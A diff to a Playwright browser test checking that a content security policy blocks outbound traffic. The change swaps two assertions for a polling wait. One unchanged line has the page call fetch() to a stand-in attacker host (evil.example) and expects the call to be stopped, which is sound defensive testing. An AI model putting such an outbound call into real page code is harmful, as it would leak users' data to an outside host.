@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import expect
 
+from serving import until
 from stenograph.model import (
     AttachmentBlock,
     CommandBlock,
@@ -176,9 +177,8 @@ def test_the_policy_stops_what_would_get_through(open_page: Open) -> None:
     assert page.evaluate("fetch('https://evil.example/y').then(() => 'sent', () => 'stopped')") == "stopped"
     assert page.evaluate(WRITING) == "stopped"
     assert page.evaluate("getComputedStyle(document.body).color") == "rgb(35, 33, 29)"
+    until(page, lambda: len(seen.requests) == len(stopped) and len(seen.complaints) >= 4)
     assert all("csp" in each for each in stopped)
-    assert len(seen.requests) == len(stopped)
-    assert len(seen.complaints) >= 4
 
 
 def test_overrides_are_shown_and_not_obeyed(open_page: Open) -> None:
